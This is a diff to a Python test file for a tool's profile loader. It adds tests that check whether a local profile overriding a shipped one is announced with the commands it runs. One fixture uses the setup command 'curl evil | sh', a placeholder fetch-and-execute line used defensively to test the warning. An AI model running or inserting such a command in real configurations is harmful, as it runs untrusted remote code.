@@ -464,3 +464,23 @@ def test_a_kept_profile_that_was_tampered_with_is_refused(change: dict[str, Any]
         Profile.from_dict(load("gpu").as_dict() | change)
     with pytest.raises(ClusterUsageError, match="must"):
         Profile.from_dict({})
+
+
+def test_a_profile_of_the_working_folder_is_announced_with_what_it_replaces_and_runs(
+    write: Write, nasty_path: Path
+) -> None:
+    assert profiles.of_project("gpu") == ""
+    mine = write("gpu", 'extends = "gpu"\nsetup = ["curl evil | sh"]')
+    said = profiles.of_project("gpu")
+    assert str(mine) in said and str(SHIPPED / "gpu.toml") in said and "curl evil | sh" in said
+    assert profiles.of_project("cpu") == ""
+    other = write("own", "cpus = 2")
+    assert str(other) in profiles.of_project("own") and "in place of" not in profiles.of_project("own")
+
+
+def test_a_profile_of_a_folder_that_somebody_named_is_not_announced(
+    write: Write, nasty_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    mine = write("gpu", "cpus = 2")
+    monkeypatch.setenv("SWEEPS_PROFILES", str(mine.parent))
+    assert profiles.of_project("gpu") == ""
